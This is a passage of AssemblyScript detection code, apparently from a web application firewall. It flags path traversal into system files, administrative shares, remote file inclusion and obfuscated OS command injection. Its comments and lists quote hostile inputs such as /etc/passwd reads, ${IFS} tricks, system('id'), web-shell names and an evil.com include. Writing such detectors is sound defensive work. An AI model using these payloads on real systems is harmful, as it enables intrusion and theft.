  if (f == 0x76 && !(startsAt(i + 2, "ar/adm/") || startsAt(i + 2, "ar/log") || startsAt(i + 2, "ar/spool/") || startsAt(i + 2, "ar/mail/") ||
      startsAt(i + 2, "ar/cpanel/") || startsAt(i + 2, "ar/lp/") || startsAt(i + 2, "ar/saf/"))) return false; // /var/lib/app/… is a workload's
  if (!noBlankTo(i, e)) return false;
  if (startsAt(i + 1, "etc") && isSlash(nb(i + 4))) return etcNameAt(i + 5, e);
  for (let k = 0; k < SYSTEM_DIRS.length; k++) {
    const d = unchecked(SYSTEM_DIRS[k]);
    const m = d.length;
    if (i + 1 + m > e) continue;
    let j = 0;
    while (j < m && (nb(i + 1 + j) == ch(d, j) || (ch(d, j) == 0x2f && nb(i + 1 + j) == 0x5c))) j++;
    if (j < m) continue;
    const next = nb(i + 1 + m);
    // A directory entry ends with '/' (something must follow it), a name at the segment's end.
    // (/var/log, /var/log/x, /var/logs/…, /var/log.1; not /var/logo.png)
    if (ch(d, m - 1) == 0x2f ? i + 1 + m < e && next != 0x2f && next != 0x5c :
        (i + 1 + m == e || isSlash(next) || next == 0x2e || next == 0x2d || next == 0x5f || isDigit(next) || (next == 0x73 && (i + 2 + m == e || isSlash(nb(i + 2 + m)))))) return true;
  }
  return false;
}
// A UNC path to a Windows administrative share (\\host\c$\…, \\::1\admin$\…, //127.0.0.1/ipc$/): the
// whole disk or system directory of a host, read or listed by a server that opens the value as a file.
function uncAdminShare(): bool {
  let i = skipBlanks(0);
  if (isSlash(nb(i)) && isSlash(nb(i + 1)) && isSlash(nb(i + 2))) i++; // a request path's own '/' before it: /\\host\c$\
  if (!(isSlash(nb(i)) && isSlash(nb(i + 1)))) return false;
  i += 2;
  const h = i;
  while (i < normLen && i - h < 256 && !isSlash(nb(i)) && !isSpace(nb(i))) i++;
  if (i == h || !isSlash(nb(i))) return false;
  const s = i + 1;
  let e = s;
  while (e < normLen && isAlpha(nb(e))) e++;
  if (nb(e) != 0x24 || !(isSlash(nb(e + 1)) || e + 1 >= normLen)) return false;
  return e - s == 1 || wordEquals(s, e, "admin") || wordEquals(s, e, "ipc") || wordEquals(s, e, "print");
}

// Whether a stream wrapper (LIST_WRAPPERS_5: php://, file://, jar:file: …) occurs: each holds ':', so each
// ':' of the value is tried as the wrapper's first ':' (a URL has one; nine searches of the value were more).
const SET_COLON = byteSet(":");
// Per byte, the wrappers whose first ':' comes after that byte (p of php:, e of file: …): most colons (https:)
// have no candidate.
const wrapperBeforeColon = memory.data(256 * 4);
const wrapperColonAt = memory.data(32 * 4);
function initWrapperTables(): void {
  assert(LIST_WRAPPERS_5.length <= 32);
  for (let k = 0; k < LIST_WRAPPERS_5.length; k++) {
    const w = LIST_WRAPPERS_5[k];
    const c = w.indexOf(":");
    store<i32>(wrapperColonAt + (<usize>k << 2), c);
    const a = wrapperBeforeColon + (<usize>w.charCodeAt(c - 1) << 2);
    store<u32>(a, load<u32>(a) | (1 << <u32>k));
  }
}
initWrapperTables();
function wrapperAtColon(): bool {
  for (let i = 0; i < normLen; i++) {
    i = nextInSet(normPtr, i, normLen, SET_COLON);
    if (i >= normLen) break;
    let cand = load<u32>(wrapperBeforeColon + (<usize>nb(i - 1) << 2));
    while (cand != 0) {
      const k = ctz(cand);
      cand &= cand - 1;
      if (startsAt(i - load<i32>(wrapperColonAt + (<usize>k << 2)), unchecked(LIST_WRAPPERS_5[k]))) return true;
    }
  }
  return false;
}

// Whether a sensitive file name (LIST_FILES_4) occurs, '/' in a name also matching '\' (c:\windows\win.ini).
// One pass: only bytes that start some name are tried (a first-byte table).
// Per byte, a bit per name (64 at most) whose first (fileFirst) or second (fileSecond) byte it is.
const fileFirst = fileByteTable(0);
const fileSecond = fileByteTable(1);
function fileByteTable(at: i32): usize {
  assert(LIST_FILES_4.length <= 64, "a file-name table holds 64 names");
  const t = heap.alloc(256 * 8);
  memory.fill(t, 0, 256 * 8);
  for (let k = 0; k < LIST_FILES_4.length; k++) {
    const c = <u32>LIST_FILES_4[k].charCodeAt(at);
    const a = t + (<usize>c << 3);
    store<u64>(a, load<u64>(a) | ((<u64>1) << <u64>k));
    if (c == 0x2f) { const b = t + (0x5c << 3); store<u64>(b, load<u64>(b) | ((<u64>1) << <u64>k)); } // '\' stands for '/'
  }
  return t;
}
const SET_FILE_FIRST = fileFirstSet();
function fileFirstSet(): usize {
  let chars = "\\";
  for (let k = 0; k < LIST_FILES_4.length; k++) chars += LIST_FILES_4[k].charAt(0);
  return byteSet(chars);
}
function sensitiveFileAt(): bool {
  let i = 0;
  if (ASC_FEATURE_SIMD) {
    // The bytes that start a name, 16 at a time; every one of them in the block tried from one mask (a URL has
    // a dozen: '/', '.', s, w, i, m …).
    const set = v128.load(SET_FILE_FIRST);
    for (; i < normLen; i += 16) {
      let m = inSetMask(v128.load(normPtr + <usize>i), set) & lanesBefore(i, normLen);
      while (m != 0) {
        if (fileNameAt(i + ctz(m))) return true;
        m &= m - 1;
      }
    }
  }
  for (; i < normLen; i++) if (fileNameAt(i)) return true;
  return false;
}
// Whether a name of LIST_FILES_4 starts at i: the candidates are the names whose first two bytes match.
@inline function fileNameAt(i: i32): bool {
  let cand = load<u64>(fileFirst + (<usize>load<u8>(normPtr + <usize>i) << 3)) & load<u64>(fileSecond + (<usize>nb(i + 1) << 3));
  while (cand != 0) {
    const k = <i32>ctz(cand);
    cand &= cand - 1;
    const s = unchecked(LIST_FILES_4[k]);
    const m = s.length;
    if (i + m > normLen) continue;
    let j = 1;
    while (j < m) {
      const a = nb(i + j);
      const b = ch(s, j);
      if (!(a == b || (b == 0x2f && a == 0x5c))) break;
      j++;
    }
    // A name ending in a letter ends there: "/environ" is not "/environments.html", "/etc/shadow" not
    // "/etc/shadowsocks/" (a suffix after '.', '-', '~' or a digit is still the file: passwd-, .env.local).
    if (j == m && !(isAlpha(ch(s, m - 1)) && isAlpha(nb(i + m)))) return true;
  }
  return false;
}

// Start of a URL's host after "scheme://" at `i` (skipping userinfo), end in hostEnd; -1 if none.
let hostEnd = 0;
// Bytes that end a URL's authority: / ? # \ " ' ! and whitespace (HOST_STOP), and '@' (HOST_AT, ends the userinfo):
// flags in BYTE_KIND (a table of their own pushed the static data past its page).
const HOST_STOP: u8 = 8, HOST_AT: u8 = 16;
function initHostBytes(): void {
  const stops = "/?#\\\"'! \t\n\r\x0b\x0c";
  for (let k = 0; k < stops.length; k++) { const c = <usize>stops.charCodeAt(k); store<u8>(BYTE_KIND + c, load<u8>(BYTE_KIND + c) | HOST_STOP); }
  store<u8>(BYTE_KIND + 0xa0, load<u8>(BYTE_KIND + 0xa0) | HOST_STOP);
  store<u8>(BYTE_KIND + 0x40, load<u8>(BYTE_KIND + 0x40) | HOST_AT);
}
initHostBytes();
function hostAfter(i: i32): i32 {
  let s = i < 0 ? 0 : i;
  let e = s;
  // One pass: the authority's end, and its last '@' (userinfo@host).
  let lastAt = -1;
  while (e < normLen) {
    const k = load<u8>(BYTE_KIND + <usize>load<u8>(normPtr + <usize>e));
    if ((k & HOST_STOP) != 0) break;
    if ((k & HOST_AT) != 0) lastAt = e;
    e++;
  }
  if (lastAt >= 0) s = lastAt + 1;
  hostEnd = e;
  return s;
}

function ipHost(s: i32, e: i32): bool {
  if (nb(s) == 0x5b) return true; // [IPv6 literal]
  let dots = 0;
  for (let k = s; k < e; k++) { const c = nb(k); if (c == 0x3a) break; if (c == 0x2e) dots++; else if (!isDigit(c)) return false; }
  return dots == 3;
}
const SHELL_NAMES: StaticArray<string> = ["shell", "c99", "r57", "cmd", "backdoor", "wso", "b374k", "webshell", "exploit", "payload", "evil"];
// The file name ending at `e` (its extension starts there) names a web shell.
function shellNameBefore(e: i32): bool {
  let s = e;
  while (s > 0 && nb(s - 1) != 0x2f) s--;
  for (let k = 0; k < SHELL_NAMES.length; k++) { const i = indexOf(SHELL_NAMES[k], s); if (i >= 0 && i < e) return true; }
  return false;
}

function rfiOnNormalized(): bool {
  let v = 0;
  while (v < normLen && isSpace(nb(v))) v++;
  let hs = -1;
  if (startsAt(v, "http://")) hs = v + 7; else if (startsAt(v, "https://")) hs = v + 8;
  else if (startsAt(v, "ftp://")) hs = v + 6; else if (startsAt(v, "ftps://")) hs = v + 7;
  else if (startsAt(v, "\\\\")) { lastRule = "rfi:unc-path"; return nb(v + 2) != 0 && isWordByte(nb(v + 2)); }
  else if (startsAt(v, "//") && (isAlpha(nb(v + 2)) || isDigit(nb(v + 2)))) hs = v + 2; // protocol-relative: //evil.com/shell.php
  if (hs < 0) return false;
  const h = hostAfter(hs);
  let end = normLen;
  while (end > 0 && isSpace(nb(end - 1))) end--;
  if (nb(end - 1) == 0x3f) { lastRule = "rfi:trailing-question-mark"; return true; }
  // A remote script file: …/shell.txt, …/x.php
  let q = hostEnd;
  while (q < end && nb(q) != 0x3f) q++;
  const exts = LIST_EXTS_6;
  for (let k = 0; k < exts.length; k++) {
    const ext = unchecked(exts[k]);
    const m = ext.length;
    // Each extension starts with '.': one byte rules out most of them.
    if (!(q - m > h && nb(q - m) == 0x2e && startsAt(q - m, ext) && (q < end || nb(end - 1) == 0x3f || q - m > hostEnd))) continue;
    // A server page (…/index.php, …/cart.php?id=3) is a link to an application, not a file to include, unless
    // it is served from a bare IP address or named like a web shell (shell.php, c99.php, cmd.jsp). Asked only
    // for the extension the URL has (the web-shell names are searched: once per URL, not per extension).
    // (An IPv6 literal written without its brackets, https://2001:41d0::29c8/x.php, is a bare address too.)
    if (k >= 1 && k <= 5 && !(ipHost(h, hostEnd) || isIpv6(normPtr + <usize>h, hostEnd - h) || shellNameBefore(q - m))) continue;
    // Only when the URL is the whole value: links in prose are not includes.
    if (indexOf(" ", v) < 0) { lastRule = "rfi:remote-script"; return true; }
  }
  return false;
}

// ---- OS command injection -------------------------------------------------------------------------------------

// The command-view buffer: normalized value with shell quoting removed (c'a't, c\at, c""at) and ${IFS} as space.
const cmdBufStore = new StaticArray<u8>(NORM_CAP + NORM_SLACK);
const cmdBuf: usize = changetype<usize>(cmdBufStore);
let cmdLen = 0;
const SET_CMD_VIEW = byteSet("'\"\\$`^"); // the bytes buildCmdView may drop or rewrite
// ${NAME:digits:digits}: a shell substring expansion, used to spell '/' (${PATH:0:1}). Returns the index past '}', or -1.
function substringExpansionEnd(i: i32): i32 {
  let j = i;
  while (j < normLen && (isAlpha(nb(j)) || nb(j) == 0x5f)) j++;
  if (j == i || nb(j) != 0x3a) return -1;
  j++;
  let d = j;
  while (j < normLen && isDigit(nb(j))) j++;
  if (j == d || nb(j) != 0x3a) return -1;
  j++;
  d = j;
  while (j < normLen && isDigit(nb(j))) j++;
  if (j == d || nb(j) != 0x7d) return -1;
  return j + 1;
}

// The index of the '}' closing a variable name that starts at i (letters, digits, '_'; 1-16 of them), or -1.
function braceNameEnd(i: i32): i32 {
  let j = i;
  while (j < normLen && j - i <= 16 && (isAlpha(nb(j)) || isDigit(nb(j)) || nb(j) == 0x5f)) j++;
  return j > i && j - i <= 16 && nb(j) == 0x7d ? j : -1;
}

function buildCmdView(): void {
  let w = 0;
  let i = 0;
  while (i < normLen) {
    // A markdown code fence (```sh … ```) documents commands; it does not run them.
    if (fenced && inFence(i)) { store<u8>(cmdBuf + <usize>(w++), 0x20); i++; continue; }
    if (ASC_FEATURE_SIMD && fenced && i + 16 <= normLen && i8x16.all_true(v128.load(fenceMask + <usize>i))) {
      v128.store(cmdBuf + <usize>w, i8x16.splat(0x20)); // 16 fenced bytes: blanks
      i += 16; w += 16;
      continue;
    }
    if (ASC_FEATURE_SIMD && (!fenced || !v128.any_true(v128.load(fenceMask + <usize>i)))) {
      // Copy 16 bytes at a time up to the next byte of SET_CMD_VIEW (stores past it are overwritten), the last
      // block too (NORM_SLACK; w <= i, the view never grows).
      let k = skipToSet(normPtr, i, SET_CMD_VIEW) - i;
      if (k > normLen - i) k = normLen - i;
      v128.store(cmdBuf + <usize>w, v128.load(normPtr + <usize>i));
      i += k; w += k;
      if (k == 16 || i >= normLen) continue;
    }
    const c = nb(i);
    if (c == 0x27 || c == 0x22 || c == 0x5c) { i++; continue; }
    if (c == 0x24 && (startsAt(i, "${ifs}") || startsAt(i, "$ifs"))) { store<u8>(cmdBuf + <usize>(w++), 0x20); i += nb(i + 1) == 0x7b ? 6 : 4; continue; }
    // $@ and $* (no arguments in an injected shell) and $! (no background job) expand to nothing: c$@at, c$!at.
    if (c == 0x24 && (nb(i + 1) == 0x40 || nb(i + 1) == 0x2a || nb(i + 1) == 0x21)) { i += 2; continue; }
    if (c == 0x60 && nb(i + 1) == 0x60) { i += 2; continue; } // `` (empty substitution inside a word)
    if (c == 0x24 && nb(i + 1) == 0x28 && nb(i + 2) == 0x29) { i += 3; continue; } // $()
    if (c == 0x24 && nb(i + 1) == 0x7b && substringExpansionEnd(i + 2) > 0) { store<u8>(cmdBuf + <usize>(w++), 0x2f); i = substringExpansionEnd(i + 2); continue; } // ${PATH:0:1} is '/'
    if (c == 0x24 && nb(i + 1) == 0x7b && startsAt(i + 2, "path%%u*}")) { store<u8>(cmdBuf + <usize>(w++), 0x2f); i += 11; continue; } // ${PATH%%u*} is '/' too
    // An unset variable inside or before a word (${OF}ec${OF}ho, ${X}id) expands to nothing: a name of letters,
    // digits and '_' in braces with a letter right after it, or right after a letter (${HOME}/x stays).
    if (c == 0x24 && nb(i + 1) == 0x7b) {
      const close = braceNameEnd(i + 2);
      if (close > 0 && (isAlpha(nb(close + 1)) || (w > 0 && isAlpha(<u32>load<u8>(cmdBuf + <usize>(w - 1)))))) { i = close + 1; continue; }
    }
    // cmd.exe's escape character before a name's letters (^p^o^w^e^r^s^h^e^l^l, c^md): the letters alone.
    if (c == 0x5e && (isWordByte(nb(i + 1)) || nb(i + 1) == 0x2e || nb(i + 1) == 0x2d || nb(i + 1) == 0x22 || nb(i + 1) == 0x25)) { i++; continue; }
    store<u8>(cmdBuf + <usize>(w++), <u8>c);
    i++;
  }
  cmdLen = w;
}
@inline function cb(i: i32): u32 { return i >= 0 && i < cmdLen ? <u32>load<u8>(cmdBuf + <usize>i) : 0; }

function cmdWordAt(i: i32): bool {
  // Optional path prefix: /bin/, /usr/bin/, …
  let s = i;
  let j = i;
  while (j < cmdLen && (isWordByte(cb(j)) || cb(j) == 0x2f || cb(j) == 0x2e || cb(j) == 0x2d)) j++;
  for (let k = j - 1; k >= i; k--) if (cb(k) == 0x2f) { s = k + 1; break; }
  // The word ends at the first non-word byte after s ('-' inside a name: ansible-playbook, apt-get).
  let e = s;
  while (e < j && (isWordByte(cb(e)) || cb(e) == 0x2e || (cb(e) == 0x2d && e > s && isAlpha(cb(e + 1))))) e++;
  let len = e - s;
  // Windows executables by file name: powershell.exe, certutil.exe
  if (len > 6 && cb(e - 4) == 0x2e && cb(e - 3) == 0x65 && cb(e - 2) == 0x78 && cb(e - 1) == 0x65) len -= 4;
  if (len < 2 || len > 17) return false; // (the list's longest: ansible-inventory)
  const next = cb(e);
  // Inside brace expansion ({ls,-la}) a comma separates the arguments.
  if (!(e >= cmdLen || isSpace(next) || next == 0x3b || next == 0x7c || next == 0x26 || next == 0x3c || next == 0x3e || next == 0x29 || next == 0x60 || next == 0x2b || next == 0x24 ||
      (next == 0x2c && s > 0 && cb(s - 1) == 0x7b))) return false;
  if (!listedCommand(cmdBuf, s, len)) return false;
  cmdWordStart = s;
  cmdWordEnd = e;
  return true;
}
// Whether the `len` bytes at base + s are a command of LIST_CMDS_7: only the commands that start with their
// first byte are compared (four 64-bit masks per byte).
function listedCommand(base: usize, s: i32, len: i32): bool {
  const row = cmdFirst + (<usize>load<u8>(base + <usize>s) << 5);
  for (let half = 0; half < 4; half++) {
    let cand = load<u64>(row + <usize>(half << 3));
    while (cand != 0) {
      const k = (half << 6) + <i32>ctz(cand);
      cand &= cand - 1;
      const w = unchecked(LIST_CMDS_7[k]);
      if (w.length != len) continue;
      let m = 1;
      while (m < len && <u32>load<u8>(base + <usize>(s + m)) == ch(w, m)) m++;
      if (m == len) return true;
    }
  }
  return false;
}
const cmdFirst = memory.data(256 * 32);
function initCmdFirst(): void {
  assert(LIST_CMDS_7.length <= 256, "cmdFirst holds 256 commands"); // a longer list fails every test at start
  for (let k = 0; k < LIST_CMDS_7.length; k++) {
    const a = cmdFirst + (<usize>LIST_CMDS_7[k].charCodeAt(0) << 5) + <usize>((k >> 6) << 3);
    store<u64>(a, load<u64>(a) | ((<u64>1) << <u64>(k & 63)));
  }
}
initCmdFirst();
let cmdWordEnd: i32 = 0;
let cmdWordStart: i32 = 0;

// After a command word at [.., e): whether what follows reads as shell (the end, a separator, or an
// argument holding something besides letters: -la, /etc/passwd, 5, evil.com, $HOME) rather than prose
// ("cats & dogs; id est the pets": a plain word follows).
function shellArgumentsAt(e: i32): bool {
  let i = e;
  while (i < cmdLen && isSpace(cb(i))) i++;
  if (i >= cmdLen) return true;
  const c = cb(i);
  // A table cell padded to its column ("| mysql          | mysql |") is not a pipe into another command.
  if (c == 0x7c && i - e >= 2 && cb(i + 1) == 0x20) return false;
  if (c == 0x3b || c == 0x7c || c == 0x26 || c == 0x3c || c == 0x3e || c == 0x29 || c == 0x60 || c == 0x24 || c == 0x0a) return true;
  if (i == e) return true; // no space: "id;", "cat$IFS…"
  let j = i;
  while (j < cmdLen && !isSpace(cb(j))) {
    const d = cb(j);
    if (!((d | 0x20) - 0x61 < 26)) {
      // A word with its punctuation ("head count: 12", "find it, then") is prose.
      if (j > i && (d == 0x3a || d == 0x2c || d == 0x2e || d == 0x21 || d == 0x3f) && (j + 1 >= cmdLen || isSpace(cb(j + 1)))) return false;
      return true;
    }
    j++;
  }
  // A plain word, then an option or an absolute path ("ansible all -m ping", "chef-run all /x.rb"): a
  // subcommand and its arguments; prose puts no "-m" or "/etc" after its second word.
  while (j < cmdLen && isSpace(cb(j)) && cb(j) != 0x0a) j++;
  const o = cb(j);
  return (o == 0x2d && (isAlpha(cb(j + 1)) || (cb(j + 1) == 0x2d && isAlpha(cb(j + 2))))) || (o == 0x2f && isWordByte(cb(j + 1))) ||
    (o == 0x3e && redirectTargetAt(j));
}

// Output redirected into a file at the '>' at j ("echo TAG > /var/www/html/TAG.txt", ">> ~/.bashrc", "> $F",
// "2>&1"): '>' or '>>', blanks, then an absolute or home path, a variable or '&'. Prose compares with '>'
// ("price > 100", "a > b"), it does not write to a path.
function redirectTargetAt(j: i32): bool {
  let k = j + 1;
  if (cb(k) == 0x3e) k++;
  while (k < cmdLen && (cb(k) == 0x20 || cb(k) == 0x09)) k++;
  const t = cb(k);
  return (t == 0x2f && isWordByte(cb(k + 1))) || (t == 0x7e && cb(k + 1) == 0x2f) || t == 0x24 || t == 0x26;
}

// Up to three words from a, then output redirected into a file (redirectTargetAt).
function redirectAfterWords(a: i32): bool {
  let k = a;
  for (let t = 0; t < 3 && k < cmdLen; t++) {
    while (k < cmdLen && !isSpace(cb(k)) && cb(k) != 0x3e) k++;
    while (k < cmdLen && (cb(k) == 0x20 || cb(k) == 0x09)) k++;
    if (cb(k) == 0x3e) return redirectTargetAt(k);
  }
  return false;
}

// A value that opens with a bash brace expansion whose first word is a command: "{,ip,a}" runs "ip a",
// "{l,-lh}s" runs "ls -lhs" (CRS 932280); the words are joined with what follows the braces. A set in a glob
// or prose ("{a,b}", "*.{js,ts}") names no command.
const braceWord = memory.data(16);
function braceExpansionCommand(): bool {
  let i = 0;
  while (i < cmdLen && isSpace(cb(i))) i++;
  if (cb(i) != 0x7b) {
    // or right after a command separator: "a;{,whoami}", "x|{id,}"
    while (i < cmdLen && cb(i) != 0x7b) i++;
    let b = i - 1;
    while (b >= 0 && isSpace(cb(b))) b--;
    if (i >= cmdLen || b < 0 || !(cb(b) == 0x3b || cb(b) == 0x7c || cb(b) == 0x26 || cb(b) == 0x0a)) return false;
  }
  let close = i + 1;
  let commas = 0;
  while (close < cmdLen && close < i + 64 && cb(close) != 0x7d) {
    const c = cb(close);
    if (isSpace(c) || c == 0x7b) return false;
    if (c == 0x2c) commas++;
    close++;
  }
  if (cb(close) != 0x7d || commas == 0) return false;
  // The first non-empty element, then the suffix after '}' up to a blank, a separator or the next brace.
  let s = i + 1;
  while (s < close && cb(s) == 0x2c) s++;
  let e = s;
  while (e < close && cb(e) != 0x2c) e++;
  let w = 0;
  for (let k = s; k < e && w < 16; k++) store<u8>(braceWord + <usize>(w++), <u8>cb(k));
  for (let k = close + 1; k < cmdLen && w < 16 && isWordByte(cb(k)); k++) store<u8>(braceWord + <usize>(w++), <u8>cb(k));
  if (w < 2 || w > 12) return false;
  for (let k = 0; k < w; k++) if (!isWordByte(<u32>load<u8>(braceWord + <usize>k)) && load<u8>(braceWord + <usize>k) != 0x2d) return false;
  if (!listedCommand(braceWord, 0, w)) return false;
  // A short command word in a set of words ("{cat,dog}") is a set; with an argument-like element (an option, a
  // path, a digit: "{cat,/etc/passwd}", "{l,-lh}s"), a longer command name ("{,ifconfig,eth0}") or an empty
  // element, which only the shell's expansion has use for ("{id,}", "{,ip,a}"), it runs.
  if (w >= 5 || cb(i + 1) == 0x2c || cb(close - 1) == 0x2c) return true;
  for (let k = i + 1; k < close; k++) {
    const c = cb(k);
    if (c == 0x2d || c == 0x2f || c == 0x2e || isDigit(c)) return true;
  }
  return false;
}
// A path whose first segment is spelled with shell wildcards only (/???/, /b??/): a command hiding its name.
function globPathAt(i: i32): bool {
  let j = i + 1;
  let q = 0, letters = 0;
  while (j < cmdLen && cb(j) != 0x2f) {
    const c = cb(j);
    if (c == 0x3f || c == 0x2a) q++; else if (isAlpha(c)) letters++; else return false;
    j++;
  }
  return cb(j) == 0x2f && q >= 2 && letters <= 1;
}

// Markdown inline code in a sentence ("the configured `timeout`.", "**flags**: `type`"): a backtick after a
// word (or ':', ',', '*') and a space, its span closed before a space, punctuation or the end.
function markdownInlineCode(i: i32): bool {
  if (i < 2 || cb(i - 1) != 0x20) return false;
  const p = cb(i - 2);
  if (!(isAlpha(p) || p == 0x3a || p == 0x2c || p == 0x2a)) return false;
  let j = i + 1;
  while (j < cmdLen && cb(j) != 0x60 && cb(j) != 0x0a) j++;
  if (cb(j) != 0x60 || j == i + 1) return false;
  const a = cb(j + 1);
  return j + 1 >= cmdLen || a == 0x20 || a == 0x0a || a == 0x2e || a == 0x2c || a == 0x3a || a == 0x29 || a == 0x3c || a == 0x3f || a == 0x21;
}

// Calls of functions that run a command, with a literal or variable argument: system('id'), passthru("…"),
// shell_exec($x), popen('…'), proc_open, pcntl_exec, exec('…') (PHP, Python's os.*, Perl, Ruby).
const EXEC_FUNCS: StaticArray<string> = ["system", "passthru", "shell_exec", "popen", "proc_open", "pcntl_exec", "exec", "execsync", "spawnsync", "eval"];
const SET_LPAREN = byteSet("(");
function execCallAt(): bool {
  for (let i = 1; i < normLen; i++) {
    i = nextInSet(normPtr, i, normLen, SET_LPAREN);
    if (i >= normLen) break;
    if (nb(i) != 0x28) continue;
    let a = i + 1;
    while (a < normLen && isSpace(nb(a))) a++;
    if (nb(a) == 0x5c && (nb(a + 1) == 0x27 || nb(a + 1) == 0x22)) a++; // system(\'ver\'): the quote escaped for the carrier
    // R's system(paste('id'), intern = T), system(sprintf("…")): the command built by a string function
    if (startsAt(a, "paste(")) a = skipBlanks(a + 6);
    else if (startsAt(a, "paste0(")) a = skipBlanks(a + 7);
    else if (startsAt(a, "sprintf(")) a = skipBlanks(a + 8);
    const q = nb(a);
    // A bare command name as the argument: system(whoami), exec(uname -a) (PHP reads an unknown constant as
    // its name's string).
    const bare = isAlpha(q) && a == i + 1 && (isAlpha(nb(i - 1)) || nb(i - 1) == 0x29) && bareCommandAt(a); // (system)(ls) too
    if (!(q == 0x27 || q == 0x22 || q == 0x60 || q == 0x24 || bare)) continue;
    let e = i;
    while (e > 0 && isSpace(nb(e - 1))) e--;
    if (e > 0 && nb(e - 1) == 0x29) e--; // (system)('id'): the name in parentheses
    let s = e;
    while (s > 0 && (isAlpha(nb(s - 1)) || nb(s - 1) == 0x5f)) s--;
    if (e - s < 4) continue;
    if (e < i && nb(e) == 0x29 && !(s > 0 && nb(s - 1) == 0x28)) continue;
    for (let k = 0; k < EXEC_FUNCS.length; k++) {
      if (!wordEquals(s, e, unchecked(EXEC_FUNCS[k]))) continue;
      // A method (db.exec('…')) or a longer name; but a '.' after a closing quote is PHP's concatenation: the call
      // spliced into a string ("test".system(id)."", '.system('id').', or after the call it closed: 0).system('id').(),
      // and os. is Python's (os.system('id')).
      if (s > 0 && (isWordByte(nb(s - 1)) || (nb(s - 1) == 0x2e && !(s > 1 && (nb(s - 2) == 0x22 || nb(s - 2) == 0x27 || nb(s - 2) == 0x29)) && !pythonOsModule(s - 1)))) break;
      // The argument is a command: a quote then a command word, or a variable.
      if (bare) return k != 9; // (eval(whoami) is no command)
      if (q == 0x24) return true;
      let w = a + 1;
      while (w < normLen && isSpace(nb(w))) w++;
      return w < normLen && nb(w) != q;
    }
  }
  return false;
}

// The '.' at d ends the name "os" (Python's module: os.system, os.popen), itself not part of a longer name.
function pythonOsModule(d: i32): bool {
  return d >= 2 && nb(d - 2) == 0x6f && nb(d - 1) == 0x73 && (d == 2 || !(isWordByte(nb(d - 3)) || nb(d - 3) == 0x2e));
}
// PHP (or Python) code a scanner sends to prove that it runs: echo md5("…"); print(md5(999999999)); var_dump(md5(…)):
// an output statement around md5() (the page then shows a known hash).
function md5OutputProbe(): bool {
  for (let i = indexOf("md5(", 0); i >= 0; i = indexOf("md5(", i + 4)) {
    if (i > 0 && isWordByte(nb(i - 1))) continue;
    let b = i;
    while (b > 0 && (isSpace(nb(b - 1)) || nb(b - 1) == 0x28)) b--;
    if (b == i) continue; // something must sit before it: a blank or '('
    let s = b;
    while (s > 0 && (isAlpha(nb(s - 1)) || nb(s - 1) == 0x5f)) s--;
    if (s > 0 && (isWordByte(nb(s - 1)) || nb(s - 1) == 0x2e)) continue;
    if (wordEquals(s, b, "echo") || wordEquals(s, b, "print") || wordEquals(s, b, "print_r") || wordEquals(s, b, "var_dump") || wordEquals(s, b, "die") || wordEquals(s, b, "exit")) return true;
  }
  return false;
}
// A command name from the cmdi list at a (normalized value), ended by ')', a blank or ';'.
function bareCommandAt(a: i32): bool {
  let e = a;
  while (e < normLen && (isAlpha(nb(e)) || isDigit(nb(e)))) e++;
  const len = e - a, next = nb(e);
  // whoami) | uname -a) | cat /etc/passwd): a flag or path after a blank, not a word ("id card").
  return len >= 2 && len <= 12 && (next == 0x29 || (next == 0x20 && (nb(e + 1) == 0x2d || nb(e + 1) == 0x2f))) && listedCommand(normPtr, a, len);
}

// A shell or interpreter given code inline: sh -c "…", bash -c whoami, $SHELL -c, perl -e '…', python3 -c,
// ruby -e, php -r, node -e, powershell -c, cmd /c. The flag follows the program's name; something follows it.
const INLINE_CODE_PROGRAMS: StaticArray<string> = ["sh", "bash", "zsh", "ksh", "dash", "ash", "csh", "tcsh", "fish", "busybox", "$shell", "perl", "ruby", "php", "python", "python2", "python3", "node", "nodejs", "lua", "powershell", "pwsh", "cmd", "cmd.exe", "powershell.exe"];
const SET_FLAG_START = byteSet("-/");
function inlineCodeFlag(): bool {
  for (let i = 1; i + 3 < cmdLen; i++) {
    i = nextInSet(cmdBuf, i, cmdLen, SET_FLAG_START);
    if (i + 3 >= cmdLen) break;
    const c = cb(i);
    // (also comma-separated, as a compiler's -wrapper option passes them: sh,-c,id)
    if (!((c == 0x2d || c == 0x2f) && (cb(i - 1) == 0x20 || cb(i - 1) == 0x2c))) continue;
    const f = cb(i + 1);
    if (!(f == 0x63 || f == 0x65 || f == 0x72 || f == 0x6b) || !(isSpace(cb(i + 2)) || cb(i + 2) == 0x2c)) continue; // -c -e -r /c /k
    let a = i + 2;
    while (a < cmdLen && (isSpace(cb(a)) || cb(a) == 0x2c)) a++;
    if (a >= cmdLen) continue;
    let e = i - 1;
    while (e > 0 && (cb(e - 1) == 0x20 || cb(e - 1) == 0x2c)) e--;
    let s = e;
    while (s > 0 && (isWordByte(cb(s - 1)) || cb(s - 1) == 0x2e)) s--;
    for (let k = 0; k < INLINE_CODE_PROGRAMS.length; k++) {
      const w = unchecked(INLINE_CODE_PROGRAMS[k]);
      if (e - s != w.length) continue;
      let m = 0;
      while (m < w.length && cb(s + m) == ch(w, m)) m++;
      if (m < w.length) continue;
      // cmd takes /c or /k; the others a dash flag.
      if ((c == 0x2f) != (k >= 20 && w.charCodeAt(0) == 0x63)) break;
      // What follows is code, not a word of a sentence ("run bash -c carefully"): a command, a quoted
      // script, a variable, a path or punctuation.
      const a0 = cb(a);
      if (!isAlpha(a0) || cmdWordAt(a) || (present & P_QUOTE) != 0) return true;
      break;
    }
  }
  return false;
}

// A path spelled with shell bracket expressions mid-word (/[?]tc/pa[?]swd, /etc/[!q]asswd, /bi[n]/bash,
// /[e//]tc): one character, '?', or '!' with a few characters in the brackets, next to a path.
function bracketGlobPath(): bool {
  for (let i = 1; i + 2 < normLen; i++) {
    i = nextInSet(normPtr, i, normLen, SET_LBRACKET);
    if (i + 2 >= normLen) break;
    if (nb(i) != 0x5b) continue;
    const before = nb(i - 1);
    if (!(before == 0x2f || isAlpha(before))) continue;
    let j = i + 1;
    while (j < normLen && j < i + 6 && nb(j) != 0x5d) j++;
    if (nb(j) != 0x5d || j == i + 1) continue;
    const first = nb(i + 1);
    const one = j == i + 2 && (isAlpha(first) || first == 0x3f || first == 0x2a);
    const negated = first == 0x21 && j > i + 2;
    const slashes = isAlpha(first) && nb(i + 2) == 0x2f;
    const range = j == i + 4 && isAlpha(first) && nb(i + 2) == 0x2d && isAlpha(nb(i + 3)); // [a-z]
    if (!(one || negated || slashes || range)) continue;
    const after = nb(j + 1);
    if (!(after == 0x2f || isAlpha(after))) continue;
